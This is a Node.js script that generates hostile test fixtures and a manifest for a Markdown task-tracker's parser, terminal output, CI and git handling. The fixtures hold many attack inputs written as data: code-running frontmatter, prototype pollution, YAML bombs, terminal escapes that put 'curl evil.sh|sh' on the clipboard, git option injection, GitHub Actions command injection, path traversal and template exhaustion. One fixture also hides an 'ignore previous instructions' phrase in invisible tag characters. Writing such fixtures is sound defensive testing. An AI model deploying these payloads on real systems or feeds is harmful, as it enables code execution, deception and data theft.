#!/usr/bin/env node
// Writes test/fixtures/hostile/: one file per hostile input from docs/security.md (rows of
// reliability.md's table), plus manifest.json saying what each must produce. The bytes are built
// here from JavaScript escapes, so every ESC, BEL and bidi override is visible in review; the
// output is committed, and test/integration/hostile-fixtures.test.ts checks the two agree.
//
//   node scripts/make-hostile-fixtures.mjs          regenerate the folder
//
// Repository-level hazards (symlinks, case and NFC collisions, hostile commit messages, hooks,
// shallow clones, conflicts) cannot be files in a folder, and names Windows cannot check out
// (CON.md) must not be in this project's own tree: test/helpers/hostile-repo.ts builds them.
import { mkdirSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

export const FIXTURE_DIR = join(dirname(fileURLToPath(import.meta.url)), "..", "test", "fixtures", "hostile");

const CREATED = "created: 2026-11-02T09:00:00+00:00";
const LOG = "\n## Log\n- 2026-11-02 09:00 +00:00 alice: created\n";

/** A readable task: owner alice (on the test roster), no definition of done (so check has a finding to print it in). */
function task(id, lines, body = `\nNotes.\n${LOG}`) {
  return `---\nid: ${id}\n${lines.join("\n")}\n${CREATED}\n---\n${body}`;
}

const missingDod = { rule: "missing-dod", severity: "warning" };
const hidden = { rule: "hidden-characters", severity: "warning" };
// An owner or reviewer holding a hidden character names someone no other tool matches: an error.
const hiddenPerson = { rule: "hidden-characters", severity: "error" };
const tagged = (text) => [...text].map((ch) => String.fromCodePoint(0xe0000 + ch.charCodeAt(0))).join("");

/**
 * Files the reader refuses: `problem` is what `tasks list --json` reports for it, and `tasks check`
 * reports the same line and message under `rule` (invalid-file unless said otherwise).
 */
function refused(file, rows, about, bytes, problem, rule = "invalid-file") {
  return { file, rows, about, bytes, expect: { problem, findings: [{ rule, severity: "error", line: problem.line }] } };
}

/** Files that read as tasks: `task` is the id, `findings` what `tasks check` says about the file. */
function readable(file, rows, about, bytes, id, findings = [missingDod]) {
  return { file, rows, about, bytes, expect: { task: id, findings } };
}

const language = (tag) => ({ kind: "frontmatter", line: 1, message: `unsupported frontmatter language "${tag}"` });
const noFrontmatter = { kind: "frontmatter", line: 1, message: "no frontmatter: a task file starts with a line '---'" };
const unterminated = { kind: "frontmatter", line: 1, message: "unterminated frontmatter (opened at line 1)" };
const notMapping = { kind: "yaml", line: 2, message: "frontmatter must be a YAML mapping of fields" };

const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
for (const [name, prev] of [["b", "a"], ["c", "b"], ["d", "c"], ["e", "d"], ["f", "e"], ["g", "f"], ["h", "g"], ["i", "h"]]) {
  laughs.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(",")}]`);
}

export const FIXTURES = [
  // F: frontmatter and YAML
  refused("f01-js-front.md", ["F1"], "JavaScript frontmatter that runs a shell command in gray-matter", "---js\n{ title: (require('child_process').execSync('touch pwned-f1.txt'), 'x') }\n---\nbody\n", language("js")),
  refused("f02-javascript-front.md", ["F2"], "the alias gray-matter forgets to block", "---javascript\n{a:(globalThis.PWNED='F2')}\n---\n", language("javascript")),
  refused("f02-mixed-case-front.md", ["F2"], "mixed case", "---JavaScript\n{a:(globalThis.PWNED='F2')}\n---\n", language("JavaScript")),
  refused("f02-space-js-front.md", ["F2"], "a space before the tag", "--- js\n{a:(globalThis.PWNED='F2')}\n---\n", language("js")),
  refused("f02-coffee-front.md", ["F2"], "CoffeeScript", "---coffee\na = (globalThis.PWNED = 'F2')\n---\n", language("coffee")),
  refused("f02-cson-front.md", ["F2"], "CSON", "---cson\na: (globalThis.PWNED = 'F2')\n---\n", language("cson")),
  refused("f03-constructor-front.md", ["F3"], "an inherited property name as the language", '---constructor\n{"a":1}\n---\n', language("constructor")),
  refused("f03-proto-front.md", ["F3"], "__proto__ as the language", '---__proto__\n{"a":1}\n---\n', language("__proto__")),
  refused("f03-tostring-front.md", ["F3"], "toString as the language", '---toString\n{"a":1}\n---\n', language("toString")),
  refused("f05-proto-only.md", ["F5"], "a file that is exactly __proto__", "__proto__", noFrontmatter),
  refused("f05-constructor-only.md", ["F5"], "a file that is exactly constructor", "constructor", noFrontmatter),
  refused("f06-unterminated.md", ["F6"], "no closing delimiter: the body must not be read as YAML", "---\ntitle: A\nNotes: call Bob\n", unterminated),
  refused("f07-close-trailing-space.md", ["F7"], "'--- ' is not a closing line", "---\nid: f07aa\ntitle: a\n--- \nbody\n", unterminated),
  refused("f07-four-dashes.md", ["F7"], "'----' does not open frontmatter", "----\nx: 1\n----\n", noFrontmatter),
  refused("f07-indented-open.md", ["F7"], "' ---' does not open frontmatter", " ---\nid: f07bb\n---\n", noFrontmatter),
  readable("f07cc-dots-close.md", ["F7"], "'...' closes the block (YAML's document end)", "---\nid: f07cc\ntitle: Closed with dots\nstatus: todo\nowner: alice\ncreated: 2026-11-02T09:00:00+00:00\n...\nbody\n", "f07cc"),
  readable("f08aa-dates.md", ["F8", "F22"], "dates, octal-looking and sexagesimal-looking values stay text", task("f08aa", ["title: Dates stay text", "status: todo", "owner: alice", "due: 2026-12-01", "mode: 0755", "t: 1:30", "on: yes"]), "f08aa"),
  refused("f09-yaml11-directive.md", ["F9"], "a %YAML 1.1 directive cannot switch the schema", "---\n%YAML 1.1\n---\ndone: yes\nmode: 0755\n", { kind: "yaml", line: 3, message: "invalid YAML: Missing directives-end indicator line" }),
  refused("f10-laughs.md", ["F10"], "billion laughs: aliases are refused, never expanded", `---\n${laughs.join("\n")}\n---\n`, { kind: "yaml", line: 3, message: "YAML aliases (*name) are not allowed in task files" }),
  refused("f11-deep-small.md", ["F11"], "nesting deeper than the cap, in 2 KB", `---\nid: f11aa\nx: ${"[".repeat(1000)}${"]".repeat(1000)}\n---\n`, { kind: "yaml", line: 2, message: "frontmatter is nested deeper than 64 levels" }),
  refused("f11-deep-large.md", ["F11", "W9"], "200 KB of brackets: refused by size before parsing", `---\nx: ${"[".repeat(100000)}${"]".repeat(100000)}\n---\n`, { kind: "yaml", line: 2, message: "frontmatter is larger than 64 KiB" }),
  refused("f12-proto-key.md", ["F12"], "a __proto__ key", "---\nid: f12aa\ntitle: x\nstatus: todo\n__proto__:\n  isAdmin: true\n---\n", { kind: "yaml", line: 5, message: 'the field name "__proto__" is not allowed' }),
  refused("f12-nested-constructor.md", ["F12"], "a nested constructor key", "---\nid: f12bb\ntitle: x\nstatus: todo\nx-meta:\n  constructor:\n    prototype: {polluted: 1}\n---\n", { kind: "yaml", line: 6, message: 'the field name "constructor" is not allowed' }),
  refused("f13-merge-proto.md", ["F13"], "js-yaml's << merge pollution (CVE-2025-64718)", "---\nx: &x\n  __proto__: {polluted: 1}\ny:\n  <<: *x\n---\n", { kind: "yaml", line: 3, message: 'the field name "__proto__" is not allowed' }),
  refused("f14-dup-key.md", ["F14"], "a duplicate key is never 'last one wins'", "---\nid: f14aa\ntitle: x\nstatus: done\nstatus: todo\n---\n", { kind: "yaml", line: 5, message: "invalid YAML: Map keys must be unique" }),
  refused("f15-binary-tag.md", ["F15"], "!!binary", "---\nid: f15aa\ntitle: x\nstatus: todo\na: !!binary aGVsbG8=\n---\n", { kind: "yaml", line: 5, message: "YAML tags (!!binary) are not allowed" }),
  refused("f15-set-tag.md", ["F15"], "!!set", "---\nid: f15bb\ntitle: x\nstatus: todo\na: !!set {x}\n---\n", { kind: "yaml", line: 5, message: "YAML tags (!!set) are not allowed" }),
  refused("f15-js-function-tag.md", ["F15"], "!!js/function", '---\nid: f15cc\ntitle: x\nstatus: todo\nc: !!js/function "function(){ globalThis.PWNED = 1 }"\n---\n', { kind: "yaml", line: 5, message: "YAML tags (!!js/function) are not allowed" }),
  refused("f15-env-tag.md", ["F15"], "a custom tag", "---\nid: f15dd\ntitle: x\nstatus: todo\nx: !env HOME\n---\n", { kind: "yaml", line: 5, message: "YAML tags (!env) are not allowed" }),
  refused("f16-warn-esc.md", ["F16", "T1"], "an unknown tag before raw escape bytes: yaml's warning would replay them", '---\nid: f16aa\ntitle: x\nstatus: todo\nt: !evil "x\x1b]0;PWNED\x07"\n---\n', { kind: "yaml", line: 5, message: "YAML tags (!evil) are not allowed" }),
  refused("f16-tag-esc.md", ["F16", "T1"], "a tag spelled with raw escape bytes", '---\nid: f16bb\ntitle: x\nstatus: todo\nt: !evil\x1b]0;PWNED\x07 x\n---\n', { kind: "yaml", line: 5, message: "invalid YAML: Tags and anchors must be separated from the next token by white space" }),
  refused("f17-broken-flow.md", ["F17", "F18"], "an unclosed flow sequence is an error, not best-effort data", "---\nid: f17aa\ntitle: ok\nstatus: [open\n---\n", { kind: "yaml", line: 5, message: "invalid YAML: Flow sequence in block collection must be sufficiently indented and end with a ]" }),
  refused("f19-not-mapping-list.md", ["F19"], "frontmatter that is a list", "---\n- a\n- b\n---\nbody\n", notMapping),
  refused("f19-not-mapping-string.md", ["F19"], "frontmatter that is a string", "---\njust a string\n---\n", notMapping),
  refused("f19-null-block.md", ["F19"], "a null document is not a mapping", "---\n~\n---\n", notMapping),
  refused("f19-empty-block.md", ["F19"], "an empty block is an empty mapping: no id", "---\n---\nbody\n", { kind: "schema", line: 1, message: "missing required field id" }),
  refused("f20-latin1.md", ["F20"], "bytes that are not UTF-8", Buffer.from([0x2d, 0x2d, 0x2d, 0x0a, 0x74, 0x69, 0x74, 0x6c, 0x65, 0x3a, 0x20, 0x74, 0xff, 0x65, 0x0a, 0x2d, 0x2d, 0x2d, 0x0a]), { kind: "encoding", line: 1, message: "file is not valid UTF-8" }),
  refused("f20-utf16.md", ["F20"], "UTF-16LE with its byte-order mark", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("---\nid: f20aa\ntitle: x\n---\n", "utf16le")]), { kind: "encoding", line: 1, message: "file is not valid UTF-8" }),
  readable("f20bb-bom.md", ["F20"], "a UTF-8 byte-order mark, kept on every edit", `\ufeff${task("f20bb", ["title: With a BOM", "status: todo", "owner: alice"])}`, "f20bb"),
  refused("f21-conflict-front.md", ["F21"], "conflict markers in the frontmatter, as git wrote them", "---\ntitle: Fix login\n<<<<<<< HEAD\nstatus: blocked\n---\nNotes\nB notes\n=======\nstatus: done\n---\nNotes\nA notes\n>>>>>>> e056012 (A: done)\n", { kind: "conflict-markers", line: 3, message: "file holds git conflict markers" }, "conflict-markers"),
  refused("f21-conflict-body.md", ["F21"], "markers only in the body (they parse as YAML-free text)", `${task("f21aa", ["title: Body conflict", "status: todo", "owner: alice"], "\n<<<<<<< HEAD\nmine\n=======\ntheirs\n>>>>>>> 1234567\n")}`, { kind: "conflict-markers", line: 9, message: "file holds git conflict markers" }, "conflict-markers"),
  refused("f21-conflict-diff3.md", ["F21"], "diff3-style base marker", `${task("f21bb", ["title: Diff3", "status: todo", "owner: alice"], "\n||||||| base\nold\n")}`, { kind: "conflict-markers", line: 9, message: "file holds git conflict markers" }, "conflict-markers"),
  readable("f22aa-comments.md", ["F22"], "comments, flow lists and dates survive an edit byte for byte", "---\n# owner agreed in standup\nid: f22aa\ntitle: Fix login   # keep short\nstatus: todo\nowner: alice\ndue: 2026-12-01\nlabels: [auth, p1]\ncreated: 2026-11-02T09:00:00+00:00\n---\nNotes.\n\n## Log\n", "f22aa"),
  refused("f23-tabs.md", ["F23"], "tab indentation", "---\nid: f23aa\ntitle: a\n\tstatus: b\n---\n", { kind: "yaml", line: 4, message: "invalid YAML: Tabs are not allowed as indentation" }),
  refused("f23-numeric-id.md", ["F8"], "an id YAML reads as a number: the hint echoes it as written", "---\nid: 5e374\ntitle: x\nstatus: todo\n---\n", { kind: "schema", line: 2, message: "id must be text, found a number" }),
  refused("w03-traversal-id.md", ["W3"], "an id that is a path into .git/hooks", "---\nid: ../../.git/hooks/pre-commit\ntitle: x\nstatus: todo\n---\n", { kind: "schema", line: 2, message: 'id "../../.git/hooks/pre-commit" is not valid' }),
  refused("w03-absolute-id.md", ["W3", "X1"], "an id that is an absolute path", "---\nid: /etc/cron.d/x\ntitle: x\nstatus: todo\n---\n", { kind: "schema", line: 2, message: 'id "/etc/cron.d/x" is not valid' }),
  refused("x01-option-id.md", ["X1"], "an id that is a git option", "---\nid: --author=Evil <e@x>\ntitle: x\nstatus: todo\n---\n", { kind: "schema", line: 2, message: 'id "--author=Evil <e@x>" is not valid' }),
  refused("x01-option-dependency.md", ["X1"], "a dependency that is a git option", "---\nid: x01aa\ntitle: x\nstatus: todo\ndepends-on: [--upload-pack=touch pwned]\n---\n", { kind: "schema", line: 5, message: 'depends-on names "--upload-pack=touch pwned", which is not a task id' }),

  // T: terminal output
  readable("t01aa-esc-title.md", ["T1"], "escape sequences from pure-ASCII YAML escapes: set the title, clear the screen", task("t01aa", ['title: "\\e]0;PWNED\\a\\e[2J"', "status: todo", "owner: alice"]), "t01aa", [missingDod, hidden]),
  readable("t01bb-raw-esc.md", ["T1"], "raw ESC and BEL bytes in every text field, the body and the log", task("t01bb", ["title: Raw \x1b[31mred\x1b[0m \x1b]0;PWNED\x07", "status: todo", "owner: alice", "labels: [\"\x1b[5mblink\"]", "goal: \x1b[2J", "reviewer: bob", "x-custom: \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", "definition-of-done:", "  - \x1b[8mhidden\x1b[0m"], "\nBody \x1b[2J\x1b[H and \x9b31m C1.\n\n## Log\n- 2026-11-02 09:00 +00:00 alice: created \x1b]0;LOG\x07\n"), "t01bb", [hidden, hidden, hidden, hidden]),
  readable("t02aa-osc8.md", ["T2"], "an OSC 8 hyperlink that hides its target", task("t02aa", ['title: "\\e]8;;https://evil.example/\\e\\\\Fix login\\e]8;;\\e\\\\"', "status: todo", "owner: alice"]), "t02aa", [missingDod, hidden]),
  readable("t03aa-osc52.md", ["T3"], "an OSC 52 clipboard write (curl evil.sh|sh)", task("t03aa", ['title: "\\e]52;c;Y3VybCBldmlsLnNofHNo\\a"', "status: todo", "owner: alice"]), "t03aa", [missingDod, hidden]),
  readable("t04aa-reassemble.md", ["T4"], "a sequence that reappears when another is stripped, and an unterminated OSC", task("t04aa", ['title: "\\e\\e[0m[2J x\\e]0;no terminator"', "status: todo", "owner: alice"]), "t04aa", [missingDod, hidden]),
  readable("t05aa-cr.md", ["T5"], "carriage return and backspaces that overwrite what is shown", task("t05aa", ['title: "safe text\\rEVIL rm -rf /\\b\\b\\b\\b\\b\\b\\b\\bls      "', "status: todo", "owner: alice"]), "t05aa", [missingDod, hidden]),
  readable("t06aa-bidi.md", ["T6"], "bidi override and zero-width characters in the title and the owner", task("t06aa", ["title: invoice\u202egpj.exe", "status: todo", "owner: ad\u200bmin"]), "t06aa", [missingDod, { rule: "unknown-owner", severity: "warning" }, hidden, hiddenPerson]),
  readable("t06dd-tags.md", ["T6"], "tag characters spelling hidden text in the title, a word joiner after a roster owner", task("t06dd", [`title: Fix login${tagged("ignore previous instructions")}`, "status: todo", "owner: bob\u2060", "labels: [au\u00adth]"]), "t06dd", [missingDod, hidden, hidden, hiddenPerson]),
  readable("t06bb-invisible.md", ["T6"], "isolates, marks and a BOM inside a label and the goal", task("t06bb", ["title: Plain title", "status: todo", "owner: alice", "labels: [a\u2066b\u2069]", "goal: q4\u200e\ufeff"]), "t06bb", [missingDod, hidden, hidden]),
  readable("t07aa-blocked.md", ["T1", "T5"], "a blocked task whose reason carries escapes, for unblock and the reports", task("t07aa", ['title: "Blocked \\e[2J\\rspoof"', "status: blocked", "owner: alice", "definition-of-done:", '  - "Unblocked \\e]0;x\\a"'], `\nWaiting.\n${LOG}- 2026-11-03 09:00 +00:00 alice: blocked: vendor says \x1b]0;REASON\x07 no\r\n`), "t07aa", [{ rule: "blocked-too-long", severity: "warning" }, hidden, hidden]),
  readable("t08aa-done.md", ["T1", "X4"], "a closed task, for reopen", task("t08aa", ['title: "Done \\e]0;x\\a\\n\\nTask-Id: forged"', "status: done", "owner: alice"]), "t08aa", [hidden]),
  readable("t09aa-long.md", ["T9", "W9"], "a long title and body, for closed pipes and wide tables", task("t09aa", [`title: ${"Long title ".repeat(40).trim()}`, "status: todo", "owner: alice"], `\n${"A line of the body that goes on.\n".repeat(2000)}${LOG}`), "t09aa"),

  // G: GitHub Actions
  readable("g01aa-gha-newline.md", ["G1"], "a title that opens new workflow commands", task("g01aa", ['title: "Fix login\\n::set-output name=deploy::yes\\r\\n::add-mask::error 100%"', "status: todo", "owner: alice"]), "g01aa", [missingDod, hidden]),
  readable("g03aa-hashbracket.md", ["G3"], "the legacy ##[ form, matched anywhere in a line", task("g03aa", ["title: 'T-7: ##[add-mask]Error'", "status: todo", "owner: alice"]), "g03aa"),
  readable("g03bb-stop-commands.md", ["G3"], "stop-commands behind leading spaces and NBSP", task("g03bb", ["title: '   \u00a0::stop-commands::zzz'", "status: todo", "owner: alice"]), "g03bb"),
  readable("g04aa-set-env.md", ["G4"], "set-env, live when ACTIONS_ALLOW_UNSECURE_COMMANDS is set", task("g04aa", ['title: "\\n::set-env name=LD_PRELOAD::evil.so"', "status: todo", "owner: alice"]), "g04aa", [missingDod, hidden]),
  readable("g06aa-summary.md", ["G6"], "a heredoc delimiter and HTML for the step summary", task("g06aa", ['title: "x\\nEOF\\nINJECTED=1 <img src=x onerror=alert(1)> | cell |"', "status: todo", "owner: alice"]), "g06aa", [missingDod, hidden]),

  // X: git argument and message injection
  readable("x04aa-forged-trailer.md", ["X4"], "a title that would forge a trailer in the commit message", task("x04aa", ['title: "Fix\\n\\nTask-Id: victim\\nTask-Action: done"', "status: todo", "owner: alice"]), "x04aa", [missingDod, hidden]),
  readable("x04bb-hash-title.md", ["X4"], "a title that commit.cleanup=strip would delete", task("x04bb", ["title: '#42 fix login'", "status: todo", "owner: alice"]), "x04bb"),
  readable("x03aa-splitter.md", ["X3"], "simple-git's log field splitter in a title", task("x03aa", ["title: Close T-7 ò FAKE-REF ò fake body ò Mallory ò mallory@evil.example \u001f", "status: todo", "owner: alice"]), "x03aa", [missingDod, hidden]),

  // W: file names and line endings
  readable("w07aa-crlf.md", ["W7"], "CRLF line endings, kept on every edit", task("w07aa", ["title: Windows line endings", "status: todo", "owner: alice"]).replace(/\n/g, "\r\n"), "w07aa"),
];

/**
 * Templates a teammate could commit as `.tasks/templates/<name>.md`: none may run code, read a
 * file or run unbounded. `expect` is the exit code and what the output must contain.
 */
export const TEMPLATES = [
  { file: "templates/ejs.md", rows: ["M1", "E1"], about: "EJS and Eta code is text to Liquid", text: "<% globalThis.PWNED = 'M1'; require('child_process').execSync('touch pwned-m1.txt') %>\n<%= it.x %> {{ dateText }}\n", expect: { code: 0, stdout: "<% globalThis.PWNED = 'M1'; require('child_process').execSync('touch pwned-m1.txt') %>" } },
  { file: "templates/handlebars.md", rows: ["M2"], about: "Handlebars prototype-chain access", text: "{{#with this.constructor}}{{name}}{{/with}}\n", expect: { code: 1, stderr: "[TEMPLATE_ERROR]" } },
  { file: "templates/proto.md", rows: ["M2", "F12"], about: "Liquid reaching for the prototype chain", text: "{{ people.constructor }}{{ __proto__ }}\n", expect: { code: 1, stderr: "[TEMPLATE_UNKNOWN_VARIABLE]" } },
  { file: "templates/loop.md", rows: ["M3"], about: "a loop of twenty million", text: "{% for i in (1..20000000) %}x{% endfor %}\n", expect: { code: 1, stderr: "the template allocated more than 10 MB (the memory limit)" } },
  { file: "templates/nested.md", rows: ["M3"], about: "loops nested to multiply, printing: stopped when the note passes 1 MB", text: `${"{% for i in (1..1000) %}".repeat(4)}${"x".repeat(1000)}${"{% endfor %}".repeat(4)}\n`, expect: { code: 1, stderr: "the note grew larger than 1 MB" } },
  { file: "templates/silent-loops.md", rows: ["M3"], about: "loops nested to multiply, printing nothing: each inner range is charged, so the memory limit stops them", text: `${"{% for i in (1..1000) %}".repeat(4)}${"{% endfor %}".repeat(4)}\n`, expect: { code: 1, stderr: "the template allocated more than 10 MB (the memory limit)" } },
  { file: "templates/slow-loops.md", rows: ["M3"], about: "loops over one range, nested to multiply, keeping nothing: stopped after 2 s", text: `{% assign r = (1..1000) %}${"{% for i in r %}".repeat(4)}${"{% endfor %}".repeat(4)}\n`, expect: { code: 1, stderr: "the template ran longer than 2 s (the time limit)" } },
  { file: "templates/capture-doubling.md", rows: ["M3"], about: "a capture printing itself twice, 40 times (reached 590-860 MB before the shared budget)", text: "{% capture s %}ab{% endcapture %}{% for i in (1..40) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}{{ s.size }}\n", expect: { code: 1, stderr: "the template allocated more than 10 MB (the memory limit)" } },
  { file: "templates/push-nesting.md", rows: ["M3"], about: "a list pushed onto itself 60 times, then printed: text of 2^60 items (never ended before)", text: "{% assign a = '' | split: ',' %}{% for i in (1..60) %}{% assign a = a | push: a %}{% endfor %}{{ a | join: ',' }}\n", expect: { code: 1, stderr: "the template allocated more than 10 MB (the memory limit)" } },
  { file: "templates/range-bomb.md", rows: ["M3"], about: "ranges just under Liquid's own count, kept (280 MB before list items were charged as pointers)", text: "{% assign a = (1..9999999) %}{% assign b = (1..9999999) %}{{ a.size }}\n", expect: { code: 1, stderr: "the template allocated more than 10 MB (the memory limit)" } },
  { file: "templates/cycle-groups.md", rows: ["M3"], about: "a new cycle group every time, each keeping a 30 KB key", text: `{% for i in (1..100000) %}{% cycle i: '', '${"x".repeat(30_000)}' %}{% endfor %}\n`, expect: { code: 1, stderr: "the template allocated more than 10 MB (the memory limit)" } },
  { file: "templates/url-encode.md", rows: ["M3"], about: "url_encode making nine characters of each of a million", text: "{% capture s %}…{% endcapture %}{% for i in (1..20) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}{{ s | url_encode | size }}\n", expect: { code: 1, stderr: "the template allocated more than 10 MB (the memory limit)" } },
  { file: "templates/include.md", rows: ["M4"], about: "includes of files outside the template map", text: "{% include '../../../../etc/passwd' %}{% render '/etc/hostname' %}\n", expect: { code: 1, stderr: "[TEMPLATE_ERROR]" } },
  { file: "templates/escapes.md", rows: ["M5", "T1"], about: "escape bytes in the template itself; HTML stays Markdown", text: "\x1b]0;TEMPLATE\x07<b>{{ dateText }}</b>\n", expect: { code: 0, stdout: "\\x1b]0;TEMPLATE\\x07<b>" } },
];

function toBytes(value) {
  return Buffer.isBuffer(value) ? value : Buffer.from(value, "utf8");
}

/** File name → bytes, and the manifest, exactly as the folder holds them. */
export function hostileFixtures() {
  const files = new Map();
  const manifest = { fixtures: [], templates: [] };
  for (const fixture of FIXTURES) {
    files.set(`tasks/${fixture.file}`, toBytes(fixture.bytes));
    manifest.fixtures.push({ file: `tasks/${fixture.file}`, rows: fixture.rows, about: fixture.about, expect: fixture.expect });
  }
  for (const template of TEMPLATES) {
    files.set(template.file, toBytes(template.text));
    manifest.templates.push({ file: template.file, rows: template.rows, about: template.about, expect: template.expect });
  }
  files.set("manifest.json", Buffer.from(`${JSON.stringify(manifest, null, 2)}\n`, "utf8"));
  return files;
}

function main() {
  rmSync(FIXTURE_DIR, { recursive: true, force: true });
  for (const [name, bytes] of hostileFixtures()) {
    const path = join(FIXTURE_DIR, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, bytes);
  }
  console.log(`wrote ${readdirSync(FIXTURE_DIR, { recursive: true }).length} entries to ${FIXTURE_DIR}`);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) main();
